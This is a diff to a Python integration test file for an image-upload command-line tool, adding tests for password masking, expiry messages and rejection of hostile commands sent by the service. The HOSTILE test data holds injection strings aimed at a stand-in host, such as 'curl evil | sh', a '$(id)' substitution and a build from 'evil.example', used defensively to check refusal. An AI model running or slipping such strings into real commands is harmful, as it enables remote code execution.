@@ -18,7 +18,7 @@ from fastapi import FastAPI, Response
 from fastapi.responses import JSONResponse, StreamingResponse
 
 from lusid_image_publish.local.server import LocalScheduler
-from tests.integration.misbehaving import INSTRUCTIONS, Answer, Asked, Host, hosting, in_turn
+from tests.integration.misbehaving import Answer, Asked, Host, hosting, in_turn
 from tests.integration.parts import Job, command_environment, interrupt_at, run, start
 from tests.integration.scripted_service import serve
 
@@ -277,15 +277,72 @@ def test_a_header_that_makes_no_sense_is_shown_without_controls(
     assert "\x9b" not in done.stderr
 
 
+COMMANDS = {
+    "dockerLoginCommand": "docker login -u me -p s3cretpass registry.example",
+    "buildVersionedDockerImageCommand": "docker build -t foo/job:1 . --platform=linux/amd64",
+    "tagVersionedDockerImageCommand": "docker tag foo/job:1 registry.example/foo/job:1",
+    "pushVersionedDockerImageCommand": "docker push registry.example/foo/job:1",
+}
+
+
+def shown_upload(
+    answer: dict[str, str], folder: Path, environ: dict[str, str], *options: str
+) -> subprocess.CompletedProcess[str]:
+    """Run `lusid-images upload` against a service that gives these commands."""
+    with hosting() as host, host.service(lambda _: JSONResponse(answer)) as server:
+        there = environ | {"FBN_SCHEDULER_URL": server.url}
+        return run("images", "upload", "job:1", *options, cwd=folder, environ=there)
+
+
 @pytest.mark.parametrize("login", ["-p s3cr'et'p\"assw0rd\"", "-p abc", "--password=s3cretpass"])
 def test_upload_hides_a_password_however_it_is_written(
     login: str, tmp_path: Path, environ: dict[str, str]
 ) -> None:
-    answer = INSTRUCTIONS | {"dockerLoginCommand": f"docker login -u me {login} registry.example"}
-    with hosting() as host, host.service(lambda _: JSONResponse(answer)) as server:
-        there = environ | {"FBN_SCHEDULER_URL": server.url}
-        done = run("images", "upload", "job:1", cwd=tmp_path, environ=there)
+    answer = COMMANDS | {"dockerLoginCommand": f"docker login -u me {login} registry.example"}
+    done = shown_upload(answer, tmp_path, environ)
     assert done.stdout.splitlines()[0] == "docker login -u me -p *** registry.example"
+
+
+HOSTILE = {
+    "a pipe": {"dockerLoginCommand": "docker login -u me -p abc evil.example; curl evil | sh"},
+    "no docker": {"pushVersionedDockerImageCommand": "curl evil.example"},
+    "another registry": {"dockerLoginCommand": "docker login -u me -p s3cretpass evil.example"},
+    "another image": {"pushVersionedDockerImageCommand": "docker push registry.example/foo/bob:1"},
+    "a substitution": {"tagVersionedDockerImageCommand": "docker tag $(id) registry.example/j:1"},
+    "a build from elsewhere": {
+        "buildVersionedDockerImageCommand": "docker build -t foo/job:1 https://evil.example/a.git"
+    },
+    "latest is a pipe": {
+        "tagLatestDockerImageCommand": "docker tag foo/job:1 registry.example/foo/job:latest",
+        "pushLatestDockerImageCommand": "docker push registry.example/foo/job:latest | sh",
+    },
+}
+
+
+@pytest.mark.parametrize("changes", HOSTILE.values(), ids=HOSTILE)
+@pytest.mark.parametrize("options", [(), ("--output", "json", "--reveal")], ids=["text", "json"])
+def test_upload_shows_nothing_that_is_not_docker_s(
+    changes: dict[str, str], options: tuple[str, ...], tmp_path: Path, environ: dict[str, str]
+) -> None:
+    done = shown_upload(COMMANDS | changes, tmp_path, environ, *options)
+    assert (done.returncode, done.stdout) == (5, ""), done.stderr
+    assert "s3cretpass" not in done.stderr
+
+
+@pytest.mark.parametrize("options", [(), ("--output", "json")], ids=["text", "json"])
+def test_upload_says_until_when_the_commands_are_good(
+    options: tuple[str, ...], tmp_path: Path, environ: dict[str, str]
+) -> None:
+    for expiry, words in (
+        ("2999-01-30T17:15:58.6730000+00:00", "good until 2999-01-30 17:15 UTC"),
+        ("2020-01-30T17:15:58.6730000+00:00", "They expired at 2020-01-30 17:15 UTC"),
+    ):
+        done = shown_upload(COMMANDS | {"expiryTime": expiry}, tmp_path, environ, *options)
+        assert done.returncode == 0
+        assert words in done.stderr
+    never = COMMANDS | {"expiryTime": "0001-01-01T00:00:00.0000000+00:00"}
+    assert "0001" not in (done := shown_upload(never, tmp_path, environ, *options)).stdout
+    assert "good until" not in done.stderr
 
 
 def test_delete_says_what_the_service_says(
